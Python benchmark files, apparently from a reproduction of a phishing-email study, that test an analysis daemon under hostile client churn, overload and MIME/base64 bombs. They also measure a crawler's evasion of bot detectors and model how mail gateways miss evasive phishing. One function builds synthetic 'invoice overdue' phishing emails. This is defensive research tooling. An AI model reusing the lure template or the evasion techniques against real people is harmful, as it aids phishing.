    daemon = ServeDaemon(config, directory)
    daemon.start()

    threads_before = threading.active_count()
    max_threads = 0
    stop_sampling = threading.Event()

    def sample():
        nonlocal max_threads
        while not stop_sampling.is_set():
            max_threads = max(max_threads, threading.active_count())
            time.sleep(0.02)

    fleet_reports: list = []
    engine = None
    if profile is not None:
        engine = ClientFaultEngine(profile, seed=fault_seed)

        def fleet():
            fleet_reports.extend(run_chaos_fleet(
                "127.0.0.1", daemon.port, engine,
                clients=clients, ops_per_client=ops,
                line_deadline=HARDENED["line_deadline"],
                idle_timeout=HARDENED["idle_timeout"],
                io_timeout=15.0, max_hold=2.0,
            ))

        fleet_thread = threading.Thread(target=fleet, daemon=True)

    try:
        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        started = time.perf_counter()
        # The honest reporter connects before the fleet starts so it
        # holds a session slot against the floods; submissions then
        # interleave freely with the abuse on the wire.
        if profile is not None:
            fleet_thread.start()
        honest = _honest_run(daemon.port, count)
        if profile is not None:
            fleet_thread.join(timeout=600)
            assert not fleet_thread.is_alive(), "hostile fleet hung"
        elapsed = time.perf_counter() - started
        stop_sampling.set()
        sampler.join(timeout=5)
        stats = _http_stats(daemon.port)
    finally:
        daemon.request_shutdown()
        exit_code = daemon.wait()
    assert exit_code == 0, "daemon did not drain cleanly"

    fleet_ops: dict = {}
    fleet_responses: dict = {}
    anomalies: list[str] = []
    for report in fleet_reports:
        for kind, n in report.ops.items():
            fleet_ops[kind] = fleet_ops.get(kind, 0) + n
        for op, n in report.responses.items():
            fleet_responses[op] = fleet_responses.get(op, 0) + n
        anomalies.extend(report.anomalies)
    records = pathlib.Path(directory, "records.jsonl").read_bytes().splitlines()
    return {
        "executor": executor,
        "messages": count,
        "elapsed_seconds": round(elapsed, 3),
        "accepted": honest["accepted"],
        "all_verdicts": honest["all_verdicts"],
        "indices": honest["indices"],
        "retries": honest["retries"],
        "records": sorted(records),
        "completed": stats["completed"],
        "dead_lettered": stats["analysis"]["dead_lettered"],
        "reconciled": stats["submitted"]
        == stats["accepted"] + stats["shed"] + stats["rejected"],
        "ingress": stats["ingress"],
        "fleet_ops": fleet_ops,
        "fleet_responses": fleet_responses,
        "anomalies": anomalies,
        "fleet_expected_ops": clients * ops,
        "threads_before": threads_before,
        "max_threads": max_threads,
        # Session cap + executor workers + fixed daemon threads + the
        # fleet's own client threads + sampler/driver slack.
        "thread_bound": threads_before + HARDENED["max_sessions"]
        + JOBS + clients + 6,
    }


def run_bench(executor: str, profile_name: str, fault_seed: int,
              count: int, clients: int, ops: int) -> dict:
    profile = client_fault_profile(profile_name)
    with tempfile.TemporaryDirectory(prefix="serve-churn-") as scratch:
        scratch = pathlib.Path(scratch)
        clean = _drive(scratch / "clean", executor, count)
        churn = _drive(scratch / "churn", executor, count,
                       profile=profile, fault_seed=fault_seed,
                       clients=clients, ops=ops)
    identical = clean["records"] == churn["records"]
    result = {
        "executor": executor,
        "profile": profile_name,
        "fault_seed": fault_seed,
        "byte_identical": identical,
        "records": len(churn["records"]),
        "clean": {k: v for k, v in clean.items() if k != "records"},
        "churn": {k: v for k, v in churn.items() if k != "records"},
    }
    return result


def _check(result: dict) -> list[str]:
    """The churn contract for one executor; violations (empty = pass)."""
    tag = result["executor"]
    clean, churn = result["clean"], result["churn"]
    violations = []
    if not result["byte_identical"]:
        violations.append(
            f"{tag}: records under churn differ from the chaos-free run")
    if result["records"] != churn["messages"]:
        violations.append(
            f"{tag}: accepted-record loss: {result['records']}"
            f"/{churn['messages']} records exported")
    for phase, data in (("clean", clean), ("churn", churn)):
        if not (data["accepted"] and data["all_verdicts"]):
            violations.append(
                f"{tag}/{phase}: an honest submission ended without a verdict")
        if data["completed"] != data["messages"]:
            violations.append(
                f"{tag}/{phase}: completed {data['completed']}"
                f"/{data['messages']}")
        if data["dead_lettered"]:
            violations.append(
                f"{tag}/{phase}: {data['dead_lettered']} dead letter(s)")
        if not data["reconciled"]:
            violations.append(f"{tag}/{phase}: /stats totals do not reconcile")
    if churn["indices"] != clean["indices"]:
        violations.append(
            f"{tag}: hostile traffic shifted honest admission indices: "
            f"{churn['indices']} != {clean['indices']}")
    if churn["anomalies"]:
        violations.append(
            f"{tag}: hostile line admitted: {churn['anomalies'][:3]}")
    if churn["max_threads"] > churn["thread_bound"]:
        violations.append(
            f"{tag}: thread high-water {churn['max_threads']} exceeds "
            f"bound {churn['thread_bound']} — sessions are not releasing "
            f"their threads")
    scheduled = sum(churn["fleet_ops"].values())
    if scheduled != churn["fleet_expected_ops"]:
        violations.append(
            f"{tag}: fleet ran {scheduled}/{churn['fleet_expected_ops']} "
            f"scheduled ops")
    return violations


@pytest.mark.skipif(not CHURN_ENABLED,
                    reason="set REPRO_SERVE_CHURN=1 to run the connection-churn soak")
def bench_serve_churn(benchmark, comparison):
    executors = ("thread", "process")
    results = {
        executor: run_bench(executor, FAULT_PROFILE, FAULT_SEED,
                            MESSAGES, CHAOS_CLIENTS, OPS_PER_CLIENT)
        for executor in executors
    }
    violations = [v for r in results.values() for v in _check(r)]

    for executor, result in results.items():
        churn = result["churn"]
        comparison.row(f"{executor}: records byte-identical under churn",
                       True, result["byte_identical"])
        comparison.row(f"{executor}: accepted-record loss", 0,
                       churn["messages"] - result["records"])
        comparison.row(f"{executor}: hostile lines admitted", 0,
                       len(churn["anomalies"]))
        comparison.row(f"{executor}: dead letters", 0, churn["dead_lettered"])
        comparison.row(f"{executor}: thread high-water (bound "
                       f"{churn['thread_bound']})",
                       f"<= {churn['thread_bound']}", churn["max_threads"])
        comparison.metric(executor, result)
        ingress = churn["ingress"]
        comparison.note(
            f"{executor}: fleet ops {churn['fleet_ops']}; ingress: "
            f"busy={ingress['busy_refused']} idle={ingress['idle_reaped']} "
            f"slowloris={ingress['line_deadline_reaped']} "
            f"malformed={ingress['malformed_lines']} "
            f"oversized={ingress['oversized_lines']} "
            f"midline={ingress['mid_line_disconnects']} "
            f"strikes={ingress['strike_closes']}")
    comparison.note("")
    comparison.note(
        f"profile={FAULT_PROFILE} fault_seed={FAULT_SEED} "
        f"fleet={CHAOS_CLIENTS}x{OPS_PER_CLIENT} ops, "
        f"{MESSAGES} honest messages/run")

    assert not violations, "; ".join(violations)

    benchmark.pedantic(
        lambda: run_bench("thread", FAULT_PROFILE, FAULT_SEED,
                          max(4, MESSAGES // 4), 2, 8),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--client-faults", default=FAULT_PROFILE,
                        choices=sorted(CLIENT_FAULT_PROFILES),
                        help=f"fault profile for the hostile fleet "
                             f"(default {FAULT_PROFILE})")
    parser.add_argument("--client-fault-seed", type=int, default=FAULT_SEED,
                        help=f"fleet schedule seed (default {FAULT_SEED})")
    parser.add_argument("--executor", default="both",
                        choices=("both", "thread", "process"),
                        help="analysis backend(s) to churn (default both)")
    parser.add_argument("--messages", type=int, default=MESSAGES,
                        help=f"honest submissions per run (default {MESSAGES})")
    parser.add_argument("--chaos-clients", type=int, default=CHAOS_CLIENTS,
                        help=f"hostile clients (default {CHAOS_CLIENTS})")
    parser.add_argument("--ops", type=int, default=OPS_PER_CLIENT,
                        help=f"ops per hostile client (default {OPS_PER_CLIENT})")
    parser.add_argument("--json", type=pathlib.Path, default=RESULTS_PATH,
                        help="machine-readable results path")
    args = parser.parse_args(argv)

    executors = ("thread", "process") if args.executor == "both" \
        else (args.executor,)
    print(f"serve churn: {args.messages} honest messages, "
          f"fleet {args.chaos_clients}x{args.ops} ops, "
          f"profile={args.client_faults}, fault_seed={args.client_fault_seed}, "
          f"executors={','.join(executors)}, jobs={JOBS}, "
          f"seed={BENCH_SEED}, scale={BENCH_SCALE}")

    results, violations = {}, []
    for executor in executors:
        result = run_bench(executor, args.client_faults,
                           args.client_fault_seed, args.messages,
                           args.chaos_clients, args.ops)
        results[executor] = result
        churn = result["churn"]
        print(f"  {executor}: byte_identical={result['byte_identical']}, "
              f"records={result['records']}/{churn['messages']}, "
              f"anomalies={len(churn['anomalies'])}, "
              f"threads={churn['max_threads']}<= {churn['thread_bound']}, "
              f"churn={churn['elapsed_seconds']}s "
              f"(clean {result['clean']['elapsed_seconds']}s)")
        print(f"    fleet ops: {churn['fleet_ops']}")
        print(f"    ingress: { {k: v for k, v in churn['ingress'].items() if isinstance(v, int) and v} }")
        violations.extend(_check(result))

    for violation in violations:
        print(f"  VIOLATION: {violation}")

    args.json.parent.mkdir(exist_ok=True)
    payload = {"name": "bench_serve_churn", "seed": BENCH_SEED,
               "scale": BENCH_SCALE, "profile": args.client_faults,
               "fault_seed": args.client_fault_seed, "metrics": results}
    args.json.write_text(json.dumps(payload, indent=2, default=str) + "\n")
    print(f"  results written to {args.json}")
    return 0 if not violations else 1


if __name__ == "__main__":
    sys.exit(main())
