"""Ablation: NotABot's counter-measures knocked out one at a time.

Each Section IV-C design choice maps to at least one detector that
would catch its absence (see DESIGN.md item 2).
"""

from repro.crawlers.assessment import run_anonwaf_test, run_botd_test, run_turnstile_test
from repro.crawlers.notabot import NOTABOT_KNOCKOUTS, notabot_profile_without


def bench_ablation_notabot(benchmark, comparison):
    def evaluate():
        outcomes = {}
        for knockout in NOTABOT_KNOCKOUTS:
            profile = notabot_profile_without(knockout)
            outcomes[knockout] = (
                run_botd_test(profile),
                run_turnstile_test(profile),
                run_anonwaf_test(profile)[0],
            )
        return outcomes

    outcomes = benchmark.pedantic(evaluate, rounds=2, iterations=1)

    def fmt(cells):
        return "/".join("pass" if cell else "FAIL" for cell in cells)

    comparison.note("NotABot vs BotD/Turnstile/AnonWAF with one counter-measure removed:")
    for knockout, cells in outcomes.items():
        expectation = "pass/pass/pass" if knockout == "full" else "at least one FAIL"
        comparison.row(f"  {knockout}", expectation, fmt(cells))
    assert all(outcomes["full"])
    for knockout, cells in outcomes.items():
        if knockout != "full":
            assert not all(cells), f"knockout {knockout} went undetected"
