"""Section V-C.1: message-level evasion (auth, noise, QR codes)."""

from repro.analysis.figures import section5c_evasion


def bench_sec5c_message_evasion(benchmark, full_records, comparison, calibration):
    prevalence = benchmark.pedantic(section5c_evasion, args=(full_records,), rounds=2, iterations=1)
    comparison.row("messages passing SPF+DKIM+DMARC", "all", f"{prevalence.auth_all_pass}/{len(full_records)}")
    comparison.row("noise-padded messages", ">=270", prevalence.noise_padded)
    comparison.row("faulty-QR messages", calibration.faulty_qr_messages, prevalence.faulty_qr)
    comparison.row("QR-bearing messages", "increasingly common", prevalence.qr_messages)
    assert prevalence.auth_all_pass == len(full_records)
    assert prevalence.faulty_qr >= 1
