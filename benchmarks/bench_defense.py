"""Defender-side benches: referral monitoring and gateway catch rates.

Not tables in the paper, but direct operationalisations of its Key
Findings — how early the impersonated brand could have detected the
campaigns, and which evasion lets the corpus through which gateway
configuration.
"""

from repro.defense.emailfilters import REFERENCE_FILTERS
from repro.defense.referral import ReferralMonitor
from repro.kits.brands import COMPANY_BRANDS


def bench_defense_referral_monitoring(benchmark, full_corpus, full_records, comparison):
    def scan_all_portals():
        alerts = {}
        for brand in COMPANY_BRANDS:
            portal = full_corpus.world.portals[brand.name]
            own = brand.name.lower().replace(" ", "") + ".example"
            alerts[brand.name] = ReferralMonitor(portal, own_domains=(own,)).scan()
        return alerts

    alerts = benchmark(scan_all_portals)
    detected_domains = {alert.phishing_domain for brand_alerts in alerts.values() for alert in brand_alerts}
    hotlinking_domains = {
        plan.host for plan in full_corpus.domain_plans if plan.options.hotlink_brand_resources
    }
    comparison.row(
        "hotlinking spear campaigns (paper: 29.8% of spear pages)",
        "trackable via referral monitoring",
        f"{len(hotlinking_domains)} domains deployed",
    )
    comparison.row(
        "  detected from the brands' own asset logs",
        "all of them, at first page load",
        f"{len(detected_domains & hotlinking_domains)}/{len(hotlinking_domains)}",
    )
    comparison.row(
        "  false alarms (non-hotlinking domains flagged)",
        0,
        len(detected_domains - hotlinking_domains),
    )
    assert detected_domains & hotlinking_domains == hotlinking_domains
    assert not detected_domains - hotlinking_domains


def bench_defense_gateway_catch_rates(benchmark, full_corpus, comparison):
    """What each modeled gateway would have caught of this corpus.

    By construction the corpus evaded real gateways; the models show the
    per-mechanism reasons (strict QR parsing, no image scanning,
    reputation that pre-registration defeats).
    """
    sample = full_corpus.messages[: min(len(full_corpus.messages), 800)]
    network = full_corpus.world.network

    def run_filters():
        return {
            gateway.name: gateway.catch_rate(sample, network) for gateway in REFERENCE_FILTERS
        }

    rates = benchmark.pedantic(run_filters, rounds=1, iterations=1)
    comparison.note(f"catch rates over {len(sample)} corpus messages (all of which, by the")
    comparison.note("paper's construction, evaded the real gateways):")
    comparison.note("")
    for name, rate in rates.items():
        comparison.row(f"  {name}", "evaded (≈0%) unless unusably aggressive", f"{100 * rate:.1f}%")
    comparison.note("")
    comparison.note("AgeZealot demonstrates the pre-registration finding: flagging every")
    comparison.note("<90-day domain would catch most campaigns, but the paper's median")
    comparison.note("24-day lead time exists precisely because real products cannot flag")
    comparison.note("that aggressively without drowning in false positives.")
    realistic = [rate for name, rate in rates.items() if "AgeZealot" not in name]
    assert all(rate < 0.10 for rate in realistic)
    assert rates["AgeZealot (age<90d flags)"] > 0.15
