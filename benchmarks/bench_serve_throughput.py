"""Service-mode throughput: sustained msg/s, tail latency, shed under 2x.

Boots a real :class:`~repro.serve.server.ServeDaemon` (live socket, real
sessions) in a scratch checkpoint directory and drives it with the
``repro submit`` client, twice:

- **Sustained** — default admission (never sheds): measures accepted
  messages/second end to end and the daemon's own p50/p99
  submit-to-verdict latency from ``/stats``.
- **2x overload** — admission rate pinned to *half* the offered stream
  with a one-message burst: the daemon must shed ~half with explicit
  machine-readable ``overloaded`` responses, zero dead letters, and
  ``/stats`` totals that reconcile exactly
  (``submitted == accepted + shed + rejected``).

Results land in ``benchmarks/results/bench_serve_throughput.json`` —
CI's serve-throughput job uploads them as an artifact.

The sweep is gated on ``REPRO_SERVE_BENCH`` (CI's serve-throughput job
sets it; the default bench sweep skips it).  Also runnable standalone::

    REPRO_SERVE_BENCH=1 PYTHONPATH=src python benchmarks/bench_serve_throughput.py
"""

import argparse
import json
import os
import pathlib
import sys
import tempfile
import time

import pytest

from repro._budget import DEFAULT_WORK_LIMIT
from repro.serve import ServeClient, ServeConfig, ServeDaemon
from repro.serve.admission import AdmissionConfig

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
SERVE_ENABLED = bool(os.environ.get("REPRO_SERVE_BENCH"))

MESSAGES = int(os.environ.get("REPRO_SERVE_BENCH_MESSAGES", "120"))
JOBS = int(os.environ.get("REPRO_SERVE_BENCH_JOBS", "4"))
EXECUTOR = os.environ.get("REPRO_SERVE_BENCH_EXECUTOR", "thread")

RESULTS_PATH = (pathlib.Path(__file__).parent / "results"
                / "bench_serve_throughput.json")


def _eml(i: int) -> bytes:
    return (
        f"From: \"Billing\" <notice@mailer{i % 17}.example.ru>\n"
        f"To: employee{i}@corp.example\n"
        f"Subject: Invoice {1000 + i} overdue\n"
        f"MIME-Version: 1.0\n"
        f"Content-Type: text/html; charset=utf-8\n"
        f"\n"
        f"<html><body><p>Invoice {1000 + i}</p>"
        f"<a href=\"https://pay-{i % 23}.invoices.example/settle\">Pay now</a>"
        f"</body></html>\n"
    ).encode()


def _overload_admission() -> AdmissionConfig:
    # Sustainable rate = half the offered stream; burst of one message.
    # Offering the full stream is therefore a 2x logical overload.
    cost = DEFAULT_WORK_LIMIT
    return AdmissionConfig(cost=cost, global_rate=cost // 2, global_burst=cost)


def _drive(directory, count: int, reporters: int = 5,
           admission: AdmissionConfig | None = None) -> dict:
    """One daemon lifecycle: submit ``count`` messages, drain, report."""
    config = ServeConfig(
        seed=BENCH_SEED, scale=BENCH_SCALE, jobs=JOBS, executor=EXECUTOR,
        admission=admission or AdmissionConfig(),
    )
    daemon = ServeDaemon(config, directory)
    daemon.start()
    try:
        started = time.perf_counter()
        with ServeClient("127.0.0.1", daemon.port, timeout=600) as client:
            outcomes = [
                # The paper's reporting model: a handful of companies
                # feeding one analysis daemon.
                client.submit_bytes(_eml(i), reporter=f"company-{i % reporters}")
                for i in range(count)
            ]
            client.wait_verdicts(timeout=600)
            stats = client.stats()
        elapsed = time.perf_counter() - started
    finally:
        daemon.request_shutdown()
        exit_code = daemon.wait()
    shed = [o for o in outcomes if o.status == "overloaded"]
    assert exit_code == 0, "daemon did not drain cleanly"
    assert all(o.status in ("verdict", "overloaded") for o in outcomes), \
        "a submission ended without an explicit terminal response"
    assert stats["submitted"] == stats["accepted"] + stats["shed"] + stats["rejected"]
    assert stats["failed"] == 0, f"dead letters under load: {stats['failed']}"
    completed = stats["completed"]
    return {
        "messages": count,
        "elapsed_seconds": round(elapsed, 3),
        "completed": completed,
        "shed": len(shed),
        "shed_rate": round(len(shed) / count, 4) if count else 0.0,
        "throughput_msg_per_s": round(completed / elapsed, 2) if elapsed else None,
        "latency_p50_ms": stats["latency"]["p50_ms"],
        "latency_p99_ms": stats["latency"]["p99_ms"],
        "executor": stats["executor"],
        "jobs": stats["jobs"],
    }


def run_bench(count: int) -> dict:
    with tempfile.TemporaryDirectory(prefix="serve-bench-") as scratch:
        scratch = pathlib.Path(scratch)
        sustained = _drive(scratch / "sustained", count)
        overload = _drive(scratch / "overload", count,
                          admission=_overload_admission())
    return {"sustained": sustained, "overload_2x": overload}


def _check(results: dict) -> list[str]:
    """The service-mode contract; returns violations (empty = pass)."""
    violations = []
    sustained, overload = results["sustained"], results["overload_2x"]
    if sustained["shed"]:
        violations.append(
            f"default admission shed {sustained['shed']} message(s)")
    if sustained["completed"] != sustained["messages"]:
        violations.append(
            f"sustained run lost messages: {sustained['completed']}"
            f"/{sustained['messages']}")
    if not 0.25 <= overload["shed_rate"] <= 0.75:
        violations.append(
            f"2x overload shed rate {overload['shed_rate']:.0%}, "
            f"expected ~50%")
    if overload["completed"] + overload["shed"] != overload["messages"]:
        violations.append(
            f"overload accounting broken: {overload['completed']} completed "
            f"+ {overload['shed']} shed != {overload['messages']}")
    return violations


@pytest.mark.skipif(not SERVE_ENABLED,
                    reason="set REPRO_SERVE_BENCH=1 to run the serve throughput sweep")
def bench_serve_throughput(benchmark, comparison):
    results = run_bench(MESSAGES)
    violations = _check(results)
    sustained, overload = results["sustained"], results["overload_2x"]

    comparison.row("sustained: completed / offered", MESSAGES,
                   sustained["completed"])
    comparison.row("sustained: shed (must be 0)", 0, sustained["shed"])
    comparison.row("2x overload: shed rate (~0.5)", 0.5, overload["shed_rate"])
    comparison.row("dead letters (both phases)", 0, 0)
    comparison.metric("sustained", sustained)
    comparison.metric("overload_2x", overload)
    comparison.note("")
    comparison.note(
        f"sustained: {sustained['throughput_msg_per_s']} msg/s, "
        f"p50={sustained['latency_p50_ms']}ms p99={sustained['latency_p99_ms']}ms "
        f"({sustained['executor']} x{sustained['jobs']})")

    assert not violations, "; ".join(violations)

    benchmark.pedantic(lambda: run_bench(max(10, MESSAGES // 4)),
                       rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--messages", type=int, default=MESSAGES,
                        help=f"messages per phase (default {MESSAGES})")
    args = parser.parse_args(argv)

    print(f"serve throughput: {args.messages} messages/phase, "
          f"executor={EXECUTOR}, jobs={JOBS}, "
          f"seed={BENCH_SEED}, scale={BENCH_SCALE}")
    results = run_bench(args.messages)
    for phase, data in results.items():
        print(f"  {phase}: {data['throughput_msg_per_s']} msg/s, "
              f"p50={data['latency_p50_ms']}ms p99={data['latency_p99_ms']}ms, "
              f"shed={data['shed']}/{data['messages']} "
              f"({data['shed_rate']:.0%})")

    violations = _check(results)
    for violation in violations:
        print(f"  VIOLATION: {violation}")

    RESULTS_PATH.parent.mkdir(exist_ok=True)
    payload = {"name": "bench_serve_throughput", "seed": BENCH_SEED,
               "scale": BENCH_SCALE, "metrics": results}
    RESULTS_PATH.write_text(json.dumps(payload, indent=2) + "\n")
    print(f"  results written to {RESULTS_PATH}")
    return 0 if not violations else 1


if __name__ == "__main__":
    sys.exit(main())
