"""Section IV-A: the monthly triage funnel."""

import random

from repro.core.triage import simulate_triage_funnel


def bench_sec4_triage_funnel(benchmark, comparison):
    funnel = benchmark(lambda: simulate_triage_funnel(random.Random(2024)))
    comparison.row("inbound emails per month", "60,000,000+", funnel.inbound)
    comparison.row("gateway-filtered fraction", 0.17, round(funnel.gateway_filtered / funnel.inbound, 3))
    comparison.row("user reports per month", "~14,000", funnel.reported)
    comparison.row(
        "reported fraction of delivered", "0.03%", f"{100 * funnel.reported_fraction_of_delivered:.3f}%"
    )
    comparison.row(
        "reports tagged malicious", "3.7%", f"{100 * funnel.malicious_fraction_of_reported:.1f}%"
    )
    comparison.row(
        "reports tagged spam",
        "61.3%",
        f"{100 * funnel.tagged_spam / funnel.reported:.1f}%",
    )
    comparison.row(
        "reports tagged legitimate",
        "35.0%",
        f"{100 * funnel.tagged_legitimate / funnel.reported:.1f}%",
    )
    comparison.row("malicious reports per month", "~500 (25/working day)", funnel.tagged_malicious)
    assert 0.025 < funnel.malicious_fraction_of_reported < 0.05
