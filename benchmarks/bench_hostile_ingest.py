"""Hostile ingest: every pathological message dies in quarantine, not CI.

Appends a seeded hostile corpus (:mod:`repro.dataset.hostile` — MIME
bombs, base64 bombs, rfc822 recursion, header bombs, runaway scripts)
to a calibrated-corpus slice and runs the sharded runner over it on
*both* backends, asserting the hostile-input contract end to end:

- zero dead letters and zero worker crashes: every hostile message
  becomes a durable record;
- each shape trips the *intended* defense — quarantined with the
  expected headline limit (:data:`~repro.dataset.hostile.
  EXPECTED_VIOLATIONS`), or degraded by the work budget with a
  machine-readable ``BudgetExceeded`` stage error;
- determinism: the jobs=4 process run exports byte-identical records
  to a jobs=1 thread run.

The post-run quarantine report is written to
``benchmarks/results/hostile_ingest_quarantine.txt`` — CI's
hostile-ingest job uploads it as an artifact.

The sweep is gated on ``REPRO_HOSTILE_INGEST`` (CI's hostile-ingest job
sets it; the default bench sweep skips it).  Also runnable standalone::

    REPRO_HOSTILE_INGEST=1 PYTHONPATH=src python benchmarks/bench_hostile_ingest.py
"""

import argparse
import json
import os
import pathlib
import sys
import time

import pytest

from repro.core import CrawlerBox, PipelineConfig
from repro.core.export import export_records
from repro.dataset.hostile import EXPECTED_VIOLATIONS, SHAPES, hostile_corpus
from repro.runner import CorpusRunner, RunnerConfig, format_quarantine_report

CLEAN_SAMPLE = 40
HOSTILE_COPIES = 3
HOSTILE_SEED = 7
INGEST_JOBS = 4
#: Calibrated messages stay far under this; a runaway script trips it.
WORK_BUDGET = 500_000

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

INGEST_ENABLED = bool(os.environ.get("REPRO_HOSTILE_INGEST"))

REPORT_PATH = pathlib.Path(__file__).parent / "results" / "hostile_ingest_quarantine.txt"


def _messages(corpus):
    return corpus.messages[:CLEAN_SAMPLE] + hostile_corpus(
        seed=HOSTILE_SEED, copies=HOSTILE_COPIES)


def _make_runner(corpus, executor: str, jobs: int):
    pipeline = PipelineConfig(budget_work_units=WORK_BUDGET)
    return CorpusRunner(
        box_factory=lambda worker_id: CrawlerBox.for_world(
            corpus.world, config=pipeline),
        jobs=jobs,
        executor=executor,
        config=RunnerConfig(
            seed=BENCH_SEED, scale=BENCH_SCALE,
            corpus_prefix=CLEAN_SAMPLE,
            hostile=f"{HOSTILE_SEED}:{HOSTILE_COPIES}",
            budget=WORK_BUDGET,
        ),
    )


def _check(result, total: int) -> list[str]:
    """The hostile-input contract; returns violations (empty = pass)."""
    violations = []
    if result.dead_letters:
        violations.append(
            f"{len(result.dead_letters)} dead letter(s): "
            + ", ".join(letter.error for letter in result.dead_letters[:3]))
    indices = sorted(record.message_index for record in result.records)
    if indices != list(range(total)):
        violations.append(f"conservation broken: {len(indices)}/{total} records")
    for record in result.records[CLEAN_SAMPLE:]:
        position = (record.message_index - CLEAN_SAMPLE) % len(SHAPES)
        shape = SHAPES[position]
        expected = EXPECTED_VIOLATIONS[shape]
        if expected:
            head = (record.quarantine.violations[0].limit
                    if record.quarantine and record.quarantine.violations else None)
            if head != expected:
                violations.append(
                    f"#{record.message_index} ({shape}): expected quarantine "
                    f"'{expected}', got {head!r}")
        elif not any(reason.startswith("BudgetExceeded")
                     for reason in record.stage_errors.values()):
            violations.append(
                f"#{record.message_index} ({shape}): expected a BudgetExceeded "
                f"stage failure, got stage_errors={record.stage_errors!r}")
    for record in result.records[:CLEAN_SAMPLE]:
        if record.quarantine is not None or record.stage_errors:
            violations.append(
                f"clean message #{record.message_index} was degraded: "
                f"{record.quarantine or record.stage_errors!r}")
    return violations


def _write_report(result) -> str:
    report = format_quarantine_report(result.records)
    REPORT_PATH.parent.mkdir(exist_ok=True)
    REPORT_PATH.write_text(report + "\n")
    return report


@pytest.mark.skipif(not INGEST_ENABLED,
                    reason="set REPRO_HOSTILE_INGEST=1 to run the hostile-ingest sweep")
def bench_hostile_ingest(benchmark, full_corpus, comparison):
    messages = _messages(full_corpus)
    hostile_count = len(SHAPES) * HOSTILE_COPIES

    started = time.perf_counter()
    result = _make_runner(full_corpus, "process", INGEST_JOBS).run(messages)
    elapsed = time.perf_counter() - started
    violations = _check(result, len(messages))

    comparison.row("dead letters under hostile ingest", 0,
                   len(result.dead_letters))
    comparison.row("records (conservation)", len(messages), len(result.records))
    comparison.row("quarantined messages",
                   HOSTILE_COPIES * sum(1 for v in EXPECTED_VIOLATIONS.values() if v),
                   result.stats.quarantined)
    comparison.row("budget-degraded stages (js-loop copies)", HOSTILE_COPIES,
                   result.stats.budget_stage_failures)
    comparison.metric("messages", len(messages))
    comparison.metric("hostile_messages", hostile_count)
    comparison.metric("elapsed_seconds", elapsed)
    comparison.metric("quarantined", result.stats.quarantined)
    comparison.metric("budget_stage_failures", result.stats.budget_stage_failures)

    serial = _make_runner(full_corpus, "thread", 1).run(messages)
    identical = (json.dumps(export_records(result.records))
                 == json.dumps(export_records(serial.records)))
    comparison.row("jobs=4 process == jobs=1 thread (byte-identical)",
                   True, identical)
    comparison.metric("byte_identical", identical)

    report = _write_report(result)
    comparison.note("")
    comparison.note(f"quarantine report written to {REPORT_PATH}")
    comparison.note(report)

    assert not violations, "; ".join(violations)
    assert identical

    benchmark.pedantic(
        lambda: _make_runner(full_corpus, "process", INGEST_JOBS).run(messages),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    global HOSTILE_COPIES

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--copies", type=int, default=HOSTILE_COPIES,
                        help=f"hostile copies per shape (default {HOSTILE_COPIES})")
    parser.add_argument("--jobs", type=int, default=INGEST_JOBS)
    args = parser.parse_args(argv)
    HOSTILE_COPIES = args.copies

    from repro.dataset import CorpusGenerator

    print(f"Generating corpus (seed={BENCH_SEED}, scale={BENCH_SCALE}) ...")
    corpus = CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()
    messages = _messages(corpus)
    print(f"  {CLEAN_SAMPLE} clean + {len(messages) - CLEAN_SAMPLE} hostile "
          f"messages, executor=process, jobs={args.jobs}, "
          f"budget={WORK_BUDGET} units")

    started = time.perf_counter()
    result = _make_runner(corpus, "process", args.jobs).run(messages)
    elapsed = time.perf_counter() - started
    print(f"  {len(result.records)} records in {elapsed:.1f}s, "
          f"{len(result.dead_letters)} dead letter(s), "
          f"{result.stats.quarantined} quarantined, "
          f"{result.stats.budget_stage_failures} budget-degraded stage(s)")

    violations = _check(result, len(messages))
    for violation in violations:
        print(f"  VIOLATION: {violation}")

    serial = _make_runner(corpus, "thread", 1).run(messages)
    identical = (json.dumps(export_records(result.records))
                 == json.dumps(export_records(serial.records)))
    print(f"  jobs={args.jobs} process == jobs=1 thread = {identical}")

    print(_write_report(result))
    print(f"  report written to {REPORT_PATH}")
    return 0 if not violations and identical else 1


if __name__ == "__main__":
    sys.exit(main())
