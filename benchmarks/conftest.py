"""Benchmark fixtures: the full-scale study, generated and analyzed once.

Set ``REPRO_BENCH_SCALE`` (e.g. ``0.2``) to shrink the corpus for quick
runs; the default regenerates the paper's full 5,181-message study.
Every bench writes its paper-vs-measured comparison to
``benchmarks/results/<name>.txt`` so the numbers survive pytest's output
capture, and a machine-readable ``benchmarks/results/<name>.json``
(metrics + seed + scale) so the perf trajectory is diffable across PRs.
"""

from __future__ import annotations

import json
import os
import pathlib

import pytest

from repro.core import CrawlerBox
from repro.dataset import CALIBRATION, CorpusGenerator

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


@pytest.fixture(scope="session")
def calibration():
    return CALIBRATION


@pytest.fixture(scope="session")
def full_corpus():
    return CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()


@pytest.fixture(scope="session")
def full_box(full_corpus):
    return CrawlerBox.for_world(full_corpus.world)


@pytest.fixture(scope="session")
def full_records(full_corpus, full_box):
    return full_box.analyze_corpus(full_corpus.messages)


class ComparisonWriter:
    """Collects paper-vs-measured rows and persists them per bench.

    ``row``/``note`` feed the human-readable ``.txt``; ``metric`` adds
    raw machine-readable values.  ``flush`` writes both the ``.txt`` and
    a ``.json`` carrying the rows, the extra metrics, and the bench's
    seed + scale, so results diff cleanly across PRs.
    """

    def __init__(self, name: str):
        self.name = name
        self.lines: list[str] = [f"# {name} (scale={BENCH_SCALE}, seed={BENCH_SEED})", ""]
        self.rows: list[dict] = []
        self.metrics: dict = {}

